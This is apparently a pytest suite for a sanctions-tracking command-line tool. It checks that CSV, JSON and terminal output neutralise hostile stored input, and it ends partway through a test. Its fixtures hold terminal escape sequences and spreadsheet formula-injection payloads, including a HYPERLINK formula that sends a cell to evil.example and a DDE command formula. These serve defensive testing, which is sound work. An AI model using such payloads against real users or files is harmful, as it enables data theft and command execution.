"""Issue 16, the second hostile round: each reproduction of the issue, held.

Terminal and spreadsheet: one escaping policy for every CSV/TSV (no raw control byte, no formula,
exact round trip through sanctrack's own CSV import), JSON with C0/C1/bidi as \\uXXXX, completion
and table/plain output escaped.
"""

from __future__ import annotations

import csv
import http.server
import io
import json
import os
import shutil
import signal
import sqlite3
import stat
import threading
import time
import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import REPO, SEED, run_process, start_process, store_digest, write_events

# Stored names as an attacker writes them: SGR colour, OSC 52 (a clipboard write), an OSC 8 link,
# OSC 0 (the window title), BEL, BS; and a reason of DEL, NEL, C1 CSI/ST/OSC, RLO, U+2028/U+2029.
ESCAPES = "Evil \x1b[31mRed\x1b]52;c;aGk=\x07 \x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\ \x1b]0;title\x07 bel\x07 bs\x08"
C1_AND_BIDI = "nel\x85 del\x7f csi\x9b2J st\x9c osc\x9d rlo\u202e ls\u2028ps\u2029 end"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', "=cmd|'/C calc'!A0", "+1+1", "-2+3", "@SUM(A1)"]


def _invisible(text: str) -> list[str]:
    return [c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp")]


def _is_formula(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not cell.lstrip("-").replace(".", "", 1).isdigit()


@pytest.fixture
def hostile(cli):
    """An event whose authority is a formula, whose targets hold every escape and formula, and a
    response answering it with a formula for a quote."""
    targets = []
    for name in [ESCAPES] + FORMULAS:
        targets += ["--target", name]
    event = cli.json("add", "event", "--date", "2025-01-03", "--authority", FORMULAS[0],
                     "--jurisdiction", "US", *targets, "--reason", C1_AND_BIDI, "--program", "=1+2")
    response = cli.json("add", "response", "--to", event["id"], "--date", "2025-01-06", "--actor",
                        "@evil", "--quote", "-cmd " + C1_AND_BIDI, "--speaker", "'quoted")
    return event, response


def _cells(text: str, tsv: bool) -> list[str]:
    rows = list(csv.reader(io.StringIO(text), dialect="excel-tab" if tsv else "excel"))
    assert len(rows) > 1, text
    return [cell for row in rows for cell in row]


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
@pytest.mark.parametrize(
    "argv",
    [["timeline"], ["search", "evil"], ["log"], ["check", "cmd C calc A0"], ["export"]],
)
def test_every_csv_and_tsv_is_inert_in_a_terminal_and_a_spreadsheet(cli, hostile, argv, fmt):
    if argv == ["export"] and fmt == "tsv":
        pytest.skip("export writes csv, not tsv")
    out = cli(*argv, "--format", fmt, code=None).stdout
    assert not [c for c in _invisible(out) if c not in "\n\t"], argv
    cells = _cells(out, fmt == "tsv")
    assert not [cell for cell in cells if _invisible(cell)], argv
    assert not [cell for cell in cells if _is_formula(cell)], argv
    if argv[0] in ("timeline", "export", "search"):
        assert any(cell.startswith("'=HYPERLINK(") for cell in cells)


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_diff_csv_and_tsv_are_inert_in_a_terminal_and_a_spreadsheet(cli, hostile, fmt):
    # The issue names diff among the CSV/TSV writers; the test above has no second jurisdiction.
    cli("add", "event", "--date", "2025-01-04", "--authority", "UK", "--jurisdiction", "GB",
        "--target", "-cmd GB only", "--target", ESCAPES)
    out = cli("diff", "US", "GB", "--format", fmt).stdout
    assert not [c for c in _invisible(out) if c not in "\n\t"]
    cells = _cells(out, fmt == "tsv")
    assert not [cell for cell in cells if _invisible(cell) or _is_formula(cell)]
    assert "'-cmd GB only" in cells and "'=cmd|'/C calc'!A0" in cells


def test_the_csv_export_imports_back_to_the_exact_text(cli, hostile, tmp_path):
    exported = tmp_path / "out.csv"
    cli("export", "--format", "csv", "-o", str(exported))
    other = tmp_path / "other.db"
    cli("--db", str(other), "import", str(exported))
    assert cli("--db", str(other), "export").stdout == cli("export").stdout
    event = cli.json("--db", str(other), "show", hostile[0]["id"])
    assert [t["name"] for t in event["targets"]] == [ESCAPES] + FORMULAS
    assert event["reason"] == C1_AND_BIDI and event["program"] == "=1+2"
    response = cli.json("--db", str(other), "show", hostile[1]["id"])
    assert (response["actor"], response["speaker"]) == ("@evil", "'quoted")


@settings(max_examples=300, deadline=None, derandomize=True)
@given(text=st.text())
def test_a_cell_escapes_and_unescapes_exactly(text):
    from sanctrack.render.csv import escape_cell, unescape_cell

    cell = escape_cell(text)
    assert unescape_cell(cell) == text
    assert not _invisible(cell) and not _is_formula(cell)


@pytest.mark.parametrize(
    "argv",
    [["show", "EVENT", "--json"], ["export"], ["export", "--format", "jsonl"],
     ["export", "--format", "ftm"], ["timeline", "--json"], ["search", "evil", "--json"],
     ["log", "--json"], ["timeline", "--format", "jsonl"]],
)
def test_json_writes_every_control_and_bidi_character_as_an_escape(cli, hostile, argv):
    argv = [hostile[0]["id"] if a == "EVENT" else a for a in argv]
    out = cli(*argv).stdout
    assert not [c for c in _invisible(out) if c != "\n"], argv
    parsed = [json.loads(out)] if out.lstrip().startswith("[") or argv[0] == "show" else [
        json.loads(line) for line in out.splitlines()
    ]
    if argv[0] in ("show", "export") and "ftm" not in argv:
        assert C1_AND_BIDI in json.dumps(parsed, ensure_ascii=False)


def test_json_keeps_the_values(cli, hostile):
    event = cli.json("show", hostile[0]["id"])
    assert event["reason"] == C1_AND_BIDI and event["targets"][0]["name"] == ESCAPES


@settings(max_examples=300, deadline=None, derandomize=True)
@given(value=st.recursive(st.text() | st.none(), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner), max_leaves=8))
def test_safe_json_is_json_of_the_same_value(value):
    from sanctrack.render.json import compact, document, line

    for encode in (document, line, compact):
        text = encode(value)
        assert json.loads(text) == value
        assert not [c for c in _invisible(text) if c != "\n"]


def test_the_json_escape_class_covers_every_control_format_and_separator_character():
    import sys

    from sanctrack.render.text import raw_in_json

    missing = [hex(c) for c in range(sys.maxunicode + 1) if c != 10
               and unicodedata.category(chr(c)) in ("Cc", "Cf", "Zl", "Zp")
               and not raw_in_json().fullmatch(chr(c))]
    assert missing == []


@pytest.mark.parametrize("fmt", ["table", "plain"])
def test_line_and_paragraph_separators_never_reach_table_or_plain_output(cli, hostile, fmt, monkeypatch):
    monkeypatch.setenv("FORCE_COLOR", "1")
    for argv in (["show", hostile[0]["id"]], ["show", hostile[1]["id"]], ["search", "evil"], ["timeline"]):
        out = cli(*argv, "--format", fmt).stdout
        assert "\u2028" not in out and "\u2029" not in out and "\x85" not in out, argv
        # Newlines, the tabs between plain columns and the colours of a table are sanctrack's own.
        assert not [c for c in _invisible(out) if c not in "\n\t\x1b"], argv
        assert "\x1b[31m" not in out and "\x1b]" not in out, argv


def test_completion_descriptions_and_values_are_escaped(cli, tmp_path):
    # An entity whose name carries an OSC 8 link and a BEL: completing its id shows its name.
    name = "Evil \x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\ \x07\u202eCorp"
    event = cli.json("add", "event", "--date", "2025", "--authority", "A", "--jurisdiction", "US",
                     "--target", name)
    for shell in ("zsh", "fish", "bash"):
        args = ["sanctrack show "] if shell == "bash" else ["show", ""]
        out = cli("__complete", shell, "--", *args).stdout
        assert event["id"] in out or event["targets"][0]["entity_id"] in out, (shell, out)
        assert not [c for c in _invisible(out) if c not in "\n\t"], (shell, out)
        if shell != "bash":
            assert "\\x1b]8;;" in out


# Every sequence the hostile fixture stores, as it would reach a terminal raw.
RAW_ON_A_TERMINAL = ("\x1b[31mRed", "\x1b]52;", "\x1b]8;;http", "\x1b]0;title", "\x07", "\x08", "\x7f",
                     "\x85", "\x9b", "\x9c", "\x9d", "\u202e", "\u2028", "\u2029")


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("script") is None, reason="needs script(1) for a real terminal")
@pytest.mark.parametrize(
    "argv",
    [["timeline", "--format", "csv"], ["export", "--format", "csv"], ["export"], ["search", "evil"],
     ["search", "evil", "--json"], ["search", "evil", "--format", "tsv"], ["show", "EVENT"],
     ["show", "EVENT", "--json"], ["show", "RESPONSE"], ["timeline"], ["check", "Evil Red"]],
)
def test_on_a_real_terminal_no_stored_control_character_is_written(cli, hostile, tmp_path, argv):
    # The issue's checks ran on a terminal: every output above, through script(1)'s pseudo-terminal,
    # as a user sees it (colours on), never carries a stored escape sequence raw.
    import shlex
    import subprocess
    import sys

    argv = [hostile[0]["id"] if a == "EVENT" else hostile[1]["id"] if a == "RESPONSE" else a for a in argv]
    typescript = tmp_path / "typescript"
    env = dict(os.environ, TERM="xterm-256color")
    env.pop("SANCTRACK_DEBUG", None)
    env.pop("COLUMNS", None)
    command = shlex.join([sys.executable, "-m", "sanctrack", *argv])
    done = subprocess.run(["script", "-q", "-e", "-c", command, str(typescript)], env=env,
                          stdin=subprocess.DEVNULL, capture_output=True, timeout=120)
    assert done.returncode in (0, 1), done
    seen = typescript.read_bytes().decode("utf-8", "replace")
    assert "Evil" in seen or "evil" in seen, seen[-500:]  # the hostile record was printed
    assert [raw for raw in RAW_ON_A_TERMINAL if raw in seen] == [], argv


# -- files and the store ----------------------------------------------------------------------------


def _special_files(tmp_path):
    """Paths in tmp_path that are not regular files: a FIFO, a symbolic link to a file, a dangling
    link, a character device (as root: `mknod mynull c 1 3`, the null device)."""
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    target = tmp_path / "target.json"
    target.write_text("keep me\n")
    link = tmp_path / "link.json"
    link.symlink_to(target)
    dangling = tmp_path / "dangling.json"
    dangling.symlink_to(tmp_path / "nowhere.json")
    paths = {"fifo": fifo, "link": link, "dangling": dangling}
    try:
        os.mknod(tmp_path / "mynull", 0o666 | stat.S_IFCHR, os.makedev(1, 3))
        paths["device"] = tmp_path / "mynull"
    except PermissionError:
        pass  # not root: the character device is left out
    return paths


@pytest.mark.parametrize(
    "argv",
    [["search", "evil", "--format", "json"], ["timeline", "--format", "svg"], ["export"],
     ["export", "--format", "csv"], ["log", "--format", "csv"], ["show", "EVENT"]],
)
def test_output_refuses_anything_but_a_regular_file_or_a_new_path(cli, hostile, tmp_path, argv):
    argv = [hostile[0]["id"] if a == "EVENT" else a for a in argv]
    paths = _special_files(tmp_path)
    before = sorted(p.name for p in tmp_path.iterdir())
    for kind, path in paths.items():
        result = cli(*argv, "-o", str(path), code=2)
        assert result.stderr.startswith(f"Error: cannot write {path}: it is a"), result.stderr
        assert "not a regular file" in result.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == before  # no temporary file left beside
    assert (tmp_path / "target.json").read_text() == "keep me\n"
    assert os.path.islink(paths["link"]) and stat.S_ISFIFO(os.lstat(paths["fifo"]).st_mode)
    if "device" in paths:
        assert stat.S_ISCHR(os.lstat(paths["device"]).st_mode)


def test_output_to_proc_self_fd_is_refused(cli, hostile):
    result = cli("search", "evil", "--format", "json", "-o", "/proc/self/fd/1", code=2)
    assert "it is a symbolic link" in result.stderr and result.stdout == ""


def test_output_to_a_regular_file_and_a_new_path_still_works(cli, hostile, tmp_path):
    existing = tmp_path / "old.json"
    existing.write_text("old")
    cli("search", "evil", "-o", str(existing))
    cli("search", "evil", "-o", str(tmp_path / "new.json"))
    assert json.loads(existing.read_text()) == json.loads((tmp_path / "new.json").read_text())


@pytest.mark.parametrize("argv", [["check", "x"], ["add", "event", "--date", "2025", "--authority", "A",
                                  "--jurisdiction", "US", "--target", "X"], ["show", "ev-1"], ["log"],
                                  ["search", "x"], ["import", "IMPORT"], ["verify"]])
def test_db_refuses_fifos_and_devices_before_opening(tmp_path, argv):
    paths = _special_files(tmp_path)
    seed = str(SEED)
    argv = [seed if a == "IMPORT" else a for a in argv]
    dev_null_journal = os.path.exists("/dev/null-journal")
    for kind, path in [("fifo", paths["fifo"]), ("device", paths.get("device")),
                       ("/dev/null", "/dev/null")]:
        if path is None:
            continue
        started = time.monotonic()
        result = run_process("--db", str(path), *argv)  # a FIFO opened blocking would hang here
        assert time.monotonic() - started < 60
        err = result.stderr.decode()
        assert result.returncode == 3, (kind, err)
        assert err.startswith(f"Error: {path} is a ") and "not a sanctrack store" in err, err
        assert len(err.strip().splitlines()) == 2  # the error and its hint
    assert os.path.exists("/dev/null-journal") == dev_null_journal
    assert not [p for p in tmp_path.iterdir() if "-journal" in p.name or "-wal" in p.name]


def test_db_through_a_symlink_to_a_device_is_refused(cli, tmp_path):
    link = tmp_path / "store-link.db"
    link.symlink_to("/dev/null")
    result = cli("--db", str(link), "check", "x", code=3)
    assert "is a character device, not a sanctrack store" in result.stderr


@pytest.mark.parametrize("name,fmt", [("out.csv", "csv"), ("out.jsonl", "jsonl"), ("out.ndjson", "jsonl"),
                                      ("out.json", "json"), ("out", "json")])
def test_export_output_extension_names_the_format(cli, hostile, tmp_path, name, fmt):
    target = tmp_path / name
    cli("export", "-o", str(target))
    assert target.read_text() == cli("export", "--format", fmt).stdout


def test_export_refuses_an_extension_naming_a_format_it_does_not_write(cli, hostile, tmp_path):
    result = cli("export", "-o", str(tmp_path / "out.tsv"), code=2)
    assert result.stderr.startswith("Error: export does not write tsv")
    assert not (tmp_path / "out.tsv").exists()


# -- damaged stores and `verify` -------------------------------------------------------------------


def _page_of(db, name: str) -> int:
    conn = sqlite3.connect(db)
    try:
        conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        return conn.execute("SELECT pageno FROM dbstat WHERE name = ? LIMIT 1", (name,)).fetchone()[0]
    finally:
        conn.close()


def _flip(db, page: int, find: bytes | None = None, at: int = 0, xor: int = 0x01) -> None:
    """Flip one byte of `page` of the store: the first byte of `find` on it, else byte `at`."""
    data = bytearray(db.read_bytes())
    start = (page - 1) * 4096
    offset = data[start:start + 4096].find(find) if find else at
    assert offset >= 0
    data[start + offset] ^= xor
    db.write_bytes(bytes(data))


@pytest.fixture
def seeded_store(cli, db):
    cli("import", str(SEED))
    return db


def test_verify_says_ok_for_a_whole_store(cli, seeded_store):
    result = cli("verify")
    assert result.stdout == "ok\n"
    report = cli.json("verify")
    assert report["ok"] and report["problems"] == [] and "full-text" in report["checked"]
    assert not os.path.exists(f"{seeded_store}-verify")


def test_a_flipped_byte_in_an_index_is_found_and_check_says_so(cli, seeded_store):
    # One flipped byte in the index of names: `check` answered "nothing recorded" (exit 1) while
    # quick_check said ok.
    _flip(seeded_store, _page_of(seeded_store, "entity_names_key"), b"integrity")
    quick = sqlite3.connect(seeded_store).execute("PRAGMA quick_check").fetchall()
    assert quick == [("ok",)]
    digest = store_digest(seeded_store)
    result = cli("verify", code=3)
    lines = result.stdout.splitlines()
    assert lines and all(line.startswith("pages: ") for line in lines)
    assert any("missing from index entity_names_key" in line for line in lines)
    answer = cli("check", "Integrity Technology Group", "--json", code=None)
    assert "failed its last verify" in answer.stderr
    assert json.loads(answer.stdout)["store_failed_verify"]["problems"] == len(lines)
    refused = cli("add", "event", "--date", "2025", "--authority", "A", "--jurisdiction", "US",
                  "--target", "X", code=3)
    assert "failed its last verify" in refused.stderr and "will not write" in refused.stderr
    assert store_digest(seeded_store) == digest


def test_a_verify_that_passes_again_clears_the_record(cli, seeded_store, tmp_path):
    good = seeded_store.read_bytes()
    _flip(seeded_store, _page_of(seeded_store, "entity_names_key"), b"integrity")
    cli("verify", code=3)
    seeded_store.write_bytes(good)  # restored from a backup
    assert cli("verify").stdout == "ok\n"
    assert "failed" not in cli("check", "Integrity Technology Group").stderr


def test_verify_finds_a_full_text_index_out_of_step_and_broken_links(cli, seeded_store):
    conn = sqlite3.connect(seeded_store, isolation_level=None)
    conn.execute("DROP TRIGGER targets_au")
    conn.execute("UPDATE targets SET name = 'renamed behind the index' WHERE rowid = 1")
    conn.execute("PRAGMA foreign_keys = OFF")
    conn.execute("UPDATE responses SET counter_event_id = 'ev-000000000000' WHERE rowid = 1")
    conn.close()
    lines = cli("verify", code=3).stdout.splitlines()
    assert "schema: the trigger targets_au is missing" in lines
    assert any(line.startswith("full-text: the full-text index of targets") for line in lines)
    assert any(line.startswith("links: response rs-") and "counter-event ev-000000000000" in line
               for line in lines)
    assert all(line.count("\n") == 0 for line in lines)


def test_import_into_a_store_with_a_corrupted_page_is_refused_and_writes_nothing(cli, seeded_store, tmp_path):
    # A wrong count of cells on the page of responses: an import of one new event used to succeed.
    _flip(seeded_store, _page_of(seeded_store, "responses"), at=4, xor=0x0D)  # 4 cells said to be 9
    before = seeded_store.read_bytes()  # (a dump cannot read this store)
    one = tmp_path / "one.json"
    one.write_text(json.dumps([{"type": "event", "date": "2024-05-01", "authority": "Test authority",
                                "jurisdiction": "US", "targets": ["Brand New Target Co"]}]))
    result = run_process("import", str(one))
    err = result.stderr.decode()
    assert result.returncode == 3 and err.startswith("Error: the store ") and "is damaged: pages: " in err
    assert "nothing was written" in err and len(err.splitlines()) == 2
    assert seeded_store.read_bytes() == before


@pytest.mark.parametrize(
    "argv",
    [["add", "event", "--date", "2024-05-01", "--authority", "Test authority", "--jurisdiction", "US",
      "--target", "Brand New Target Co"],
     ["add", "response", "--to", "ev-ed50c1d3506c", "--date", "2024-05-02", "--actor", "Someone"],
     ["edit", "ev-ed50c1d3506c", "--program", "CHANGED"],
     ["delete", "rs-17235e5ed9b0"],
     ["undo"]],
    ids=["add-event", "add-response", "edit", "delete", "undo"],
)
def test_a_write_onto_a_damaged_page_it_touches_is_refused_and_writes_nothing(cli, seeded_store, argv):
    # Every change writes a row of `changes`: with that page's count of cells wrong (4 said to
    # be 9 or so), add, edit, delete and undo used to commit onto it (exit 0), and only a full
    # quick_check (~1 s on a 200,000-event store) would have seen it.
    _flip(seeded_store, _page_of(seeded_store, "changes"), at=4, xor=0x0D)
    before = seeded_store.read_bytes()
    result = run_process(*argv)
    err = result.stderr.decode()
    assert result.returncode == 3, err
    assert err.startswith(f"Error: the store {seeded_store} is damaged: pages: ") and "nothing was written" in err
    assert len(err.splitlines()) == 2 and "backup" in err.splitlines()[1]
    assert seeded_store.read_bytes() == before
    # Recorded as a failed verify: lookups say so, and no later write lands on the damage.
    assert "failed its last verify" in run_process("check", "Integrity Technology Group").stderr.decode()
    assert "failed its last verify" in run_process(*argv).stderr.decode()


ADD_EVENT = ["add", "event", "--date", "2024-05-01", "--authority", "Test authority", "--jurisdiction", "US",
             "--target", "Brand New Target Co"]


@pytest.mark.parametrize(
    "offset,xor,written",
    [(1, 0x01, False), (2, 0x10, False), (5, 0x01, True), (6, 0x10, True), (7, 0x10, True)],
    ids=["first-free-block-high", "first-free-block-low", "content-start-high", "content-start-low",
         "fragmented-bytes"],
)
def test_free_space_damage_in_a_page_header_is_refused_or_found_by_the_quick_verify(
        cli, seeded_store, offset, xor, written):
    # The free-space fields of the header of the page of `changes`, which every write changes.
    # Lookups read records through the cell pointers, which this damage leaves whole: `check`
    # answers as before. SQLite's write path follows the chain of free blocks (bytes 1-2) and
    # refuses to write; the start of the cell content area (5-6) and the count of fragmented
    # bytes (7) it does not check, and the write lands (exit 0) while quick_check sees the damage.
    # Why the write does not run quick_check itself: docs/EXIT_CODES.md (it would cost a 200,000-
    # event store 0.64 s of CPU on every add, about four times the add).
    page = _page_of(seeded_store, "changes")
    _flip(seeded_store, page, at=offset, xor=xor)
    answer = run_process("check", "Integrity Technology Group", "--json")
    assert answer.returncode == 0 and json.loads(answer.stdout)["sanctioned"] is True
    quick = sqlite3.connect(seeded_store).execute("PRAGMA quick_check").fetchall()
    assert quick != [("ok",)]
    before = seeded_store.read_bytes()
    added = run_process(*ADD_EVENT)
    if not written:
        err = added.stderr.decode()
        assert added.returncode == 3 and err.startswith(f"Error: the store {seeded_store} is damaged: pages: ")
        assert "nothing was written" in err and len(err.splitlines()) == 2
        assert seeded_store.read_bytes() == before
    else:
        assert added.returncode == 0, added.stderr  # the known gap, found by verify below
    # The cheap verify finds it; from then on `check` says so and nothing more is written.
    found = run_process("verify", "--quick")
    assert found.returncode == 3
    assert found.stdout.decode().startswith("pages: ") and f"page {page}" in found.stdout.decode().lower()
    assert "failed its last verify" in run_process("check", "Integrity Technology Group").stderr.decode()
    digest = store_digest(seeded_store) if written else None
    refused = run_process(*ADD_EVENT)
    assert refused.returncode == 3 and "failed its last verify" in refused.stderr.decode()
    if written:
        assert store_digest(seeded_store) == digest


# -- errors that say what happened -----------------------------------------------------------------


def _run_limited(*args, fsize: int | None = None, read_only: bool = False):
    """sanctrack as a process, with a file size limit (`ulimit -f`), or unable to write files it
    does not have write permission for (as root: without CAP_DAC_OVERRIDE)."""
    import resource
    import shutil
    import subprocess
    import sys

    prefix = []
    if read_only and os.geteuid() == 0:
        setpriv = shutil.which("setpriv")
        if setpriv is None:
            pytest.skip("running as root without setpriv: permissions cannot be made to bite")
        caps = "-dac_override,-dac_read_search"
        prefix = [setpriv, f"--bounding-set={caps}", f"--inh-caps={caps}"]

    def limit():
        if fsize is not None:
            resource.setrlimit(resource.RLIMIT_FSIZE, (fsize, fsize))

    env = dict(os.environ)
    env.pop("SANCTRACK_DEBUG", None)
    return subprocess.run(prefix + [sys.executable, "-m", "sanctrack", *args], capture_output=True,
                          env=env, timeout=120, preexec_fn=limit)


@pytest.mark.slow
def test_a_read_only_store_left_by_a_killed_first_import_is_not_read_half_written(tmp_path):
    """A first import writes the store in rollback-journal mode (store/db.py). Killed while its
    pages spill into the file, it leaves a hot -journal that only a writer can roll back; a
    lookup that cannot write must refuse the store, not read it `immutable` as it lies."""
    import signal
    import subprocess
    import time

    folder = tmp_path / "ro"
    folder.mkdir()
    db = folder / "new.db"
    big = tmp_path / "big.jsonl"
    write_events(big, 60000)
    proc = start_process("--db", str(db), "import", str(big),
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    while proc.poll() is None and not (db.exists() and db.stat().st_size > 8 << 20):
        time.sleep(0.005)
    proc.send_signal(signal.SIGKILL)
    proc.wait(timeout=60)
    assert proc.returncode == -signal.SIGKILL, "the import ended before its pages spilled"
    with open(f"{db}-journal", "rb") as f:
        assert f.read(1) not in (b"", b"\0")  # hot
    os.chmod(db, 0o444)
    os.chmod(folder, 0o555)
    try:
        exported = _run_limited("--db", str(db), "export", "--format", "jsonl", "--type", "event",
                                read_only=True)
        err = exported.stderr.decode()
        assert exported.returncode == 3 and err.startswith("Error: cannot open the store"), err
        assert exported.stdout == b""
    finally:
        os.chmod(folder, 0o755)
        os.chmod(db, 0o644)
    verified = _run_limited("--db", str(db), "verify")  # a writer rolls it back
    assert verified.returncode == 0 and verified.stdout == b"ok\n", verified.stderr
    conn = sqlite3.connect(db)
    assert conn.execute("SELECT count(*) FROM events").fetchone()[0] == 0
    conn.close()


def test_a_full_disk_says_so_and_leaves_the_store_as_it_was(cli, seeded_store, tmp_path):
    big = tmp_path / "big.jsonl"
    with big.open("w") as f:
        for n in range(3000):
            f.write(json.dumps({"type": "event", "date": "2024-01-02", "authority": f"Authority {n}",
                                "jurisdiction": "US", "targets": [f"Target number {n} " + "x" * 200]}) + "\n")
    digest = store_digest(seeded_store)
    result = _run_limited("import", str(big), fsize=seeded_store.stat().st_size + 200_000)
    err = result.stderr.decode()
    assert result.returncode == 3, err
    assert err.startswith("Error: the disk holding the store ") and " is full" in err
    assert "rollback" not in err and "backup" not in err
    assert store_digest(seeded_store) == digest


def test_a_read_only_store_still_answers_lookups_and_refuses_writes_plainly(cli, seeded_store, tmp_path):
    digest = store_digest(seeded_store)
    folder = seeded_store.parent
    os.chmod(seeded_store, 0o444)
    os.chmod(folder, 0o555)
    try:
        looked_up = _run_limited("check", "Integrity Technology Group", "--json", read_only=True)
        assert looked_up.returncode == 0, looked_up.stderr
        assert json.loads(looked_up.stdout)["sanctioned"] is True
        assert _run_limited("search", "integrity", "--json", read_only=True).returncode == 0
        for argv in (["add", "event", "--date", "2025", "--authority", "A", "--jurisdiction", "US",
                      "--target", "X"], ["import", str(SEED)]):
            result = _run_limited(*argv, read_only=True)
            err = result.stderr.decode()
            assert result.returncode == 3, err
            assert "is read-only" in err and "lookups" in err and "backup" not in err, err
    finally:
        os.chmod(folder, 0o755)
        os.chmod(seeded_store, 0o644)
    assert store_digest(seeded_store) == digest


def test_a_lock_held_too_long_is_not_called_damage(cli, seeded_store, monkeypatch):
    import sanctrack.store.db as store_db

    monkeypatch.setattr(store_db, "BUSY_TIMEOUT_SECONDS", 0.2)
    monkeypatch.delenv("SANCTRACK_DEBUG")
    holder = sqlite3.connect(seeded_store, isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")
    try:
        result = cli("add", "event", "--date", "2025", "--authority", "A", "--jurisdiction", "US",
                     "--target", "X", code=3)
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    assert result.stderr.startswith("Error: the store ") and " is busy: another process" in result.stderr
    assert "fuser" in result.stderr and "backup" not in result.stderr


def test_only_damage_is_told_to_restore_a_backup(cli, seeded_store):
    _flip(seeded_store, _page_of(seeded_store, "responses"), at=8, xor=0x0F)
    result = run_process("export")
    err = result.stderr.decode()
    assert result.returncode == 3 and "is damaged" in err and "backup" in err, err


# -- network ---------------------------------------------------------------------------------------

UN_SAMPLE = REPO / "fixtures" / "lists" / "un_consolidated_xml" / "sample_un_consolidated.xml"


class _HostileHandler(http.server.BaseHTTPRequestHandler):
    """/huge: a body without end; /drip: a byte every 0.3 s; /to-ftp: a redirect to ftp://;
    /un.xml: the UN sample; /to-un: a redirect to it."""

    def log_message(self, *args):
        pass

    def do_GET(self):
        try:
            if self.path == "/huge":
                self.send_response(200)
                self.end_headers()
                block = b"x" * 65536
                while True:
                    self.wfile.write(block)
            elif self.path == "/drip":
                self.send_response(200)
                self.end_headers()
                while True:
                    self.wfile.write(b"<")
                    self.wfile.flush()
                    time.sleep(0.3)
            elif self.path in ("/to-ftp", "/to-un"):
                self.send_response(302)
                port = self.server.server_address[1]
                target = f"ftp://127.0.0.1:{port}/passwd" if self.path == "/to-ftp" else "/un.xml"
                self.send_header("Location", target)
                self.end_headers()
            elif self.path == "/un.xml":
                body = UN_SAMPLE.read_bytes()
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)
            else:
                self.send_error(404)
        except (BrokenPipeError, ConnectionResetError):
            pass


@pytest.fixture
def hostile_server():
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _HostileHandler)
    httpd.daemon_threads = True
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield f"127.0.0.1:{httpd.server_address[1]}"
    httpd.shutdown()
    httpd.server_close()


def _signal_at_default(signum):
    """For Popen's preexec_fn: the child gets `signum` at its default disposition, as a shell
    starts it. A test run under `nohup` hands SIGHUP on ignored, and sanctrack rightly keeps an
    ignored signal ignored (test_a_hangup_ignored_by_nohup_does_not_stop_a_fetch)."""
    return lambda: signal.signal(signum, signal.SIG_DFL)


def _no_partial_files(folder) -> bool:
    return not [p for p in folder.iterdir() if p.name.startswith(".fetch-")]


def test_fetch_stops_at_the_size_cap(cli, hostile_server, db, tmp_path):
    result = cli("fetch", "un", "--url", f"http://{hostile_server}/huge", "--max-size", "5M", code=3)
    assert result.stderr.startswith("Error: cannot fetch un: ") and "more than the 5 MiB allowed" in result.stderr
    assert "--max-size" in result.stderr and _no_partial_files(tmp_path) and not db.exists()


def test_fetch_stops_at_the_total_deadline_though_each_read_is_quick(cli, hostile_server, db, tmp_path):
    result = cli("fetch", "un", "--url", f"http://{hostile_server}/drip", "--timeout", "3",
                 "--max-time", "1", code=3)
    assert "took longer than the 1 s allowed" in result.stderr and _no_partial_files(tmp_path)


def test_fetch_follows_redirects_to_http_only_and_reads_upper_case_schemes(cli, hostile_server, db, tmp_path):
    refused = cli("fetch", "un", "--url", f"http://{hostile_server}/to-ftp", code=3)
    assert "redirects to 'ftp://" in refused.stderr and "not an http or https address" in refused.stderr
    assert _no_partial_files(tmp_path)
    fetched = cli.json("fetch", "un", "--url", f"HTTP://{hostile_server}/to-un")
    assert fetched["snapshots"][0]["listings"] == 7


@pytest.mark.parametrize("url", ["http://[::1", "ftp://example.org/list.xml", "http://", "file:///etc/passwd",
                                 "http://example.org:notaport/x"])
def test_fetch_refuses_a_bad_address_in_one_line(url, db):
    result = run_process("fetch", "un", "--url", url)
    err = result.stderr.decode()
    assert result.returncode == 2 and err.startswith("Error: cannot fetch ") and len(err.splitlines()) == 1, err


@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGHUP])
def test_sigterm_and_sighup_during_fetch_clean_up_and_say_so(hostile_server, tmp_path, signum):
    import subprocess
    import sys

    env = dict(os.environ, SANCTRACK_DB=str(tmp_path / "store.db"))
    env.pop("SANCTRACK_DEBUG", None)
    process = subprocess.Popen(
        [sys.executable, "-m", "sanctrack", "fetch", "un", "--url", f"http://{hostile_server}/drip"],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env, preexec_fn=_signal_at_default(signum),
    )
    for _ in range(600):  # until the partial file exists (at most a minute)
        if not _no_partial_files(tmp_path):
            break
        time.sleep(0.1)
    assert not _no_partial_files(tmp_path)
    process.send_signal(signum)
    out, err = process.communicate(timeout=60)
    assert process.returncode == 128 + signum
    assert err.decode() == f"Terminated ({signal.Signals(signum).name}): nothing was written by the unfinished command.\n"
    assert _no_partial_files(tmp_path)


def test_a_hangup_ignored_by_nohup_does_not_stop_a_fetch(hostile_server, tmp_path):
    # `nohup sanctrack fetch …` must outlive the terminal: an ignored SIGHUP stays ignored.
    import subprocess
    import sys

    env = dict(os.environ, SANCTRACK_DB=str(tmp_path / "store.db"))
    env.pop("SANCTRACK_DEBUG", None)
    process = subprocess.Popen(
        [sys.executable, "-m", "sanctrack", "fetch", "un", "--url", f"http://{hostile_server}/drip"],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env,
        preexec_fn=lambda: signal.signal(signal.SIGHUP, signal.SIG_IGN),
    )
    try:
        for _ in range(600):  # until the partial file exists (at most a minute)
            if not _no_partial_files(tmp_path):
                break
            time.sleep(0.1)
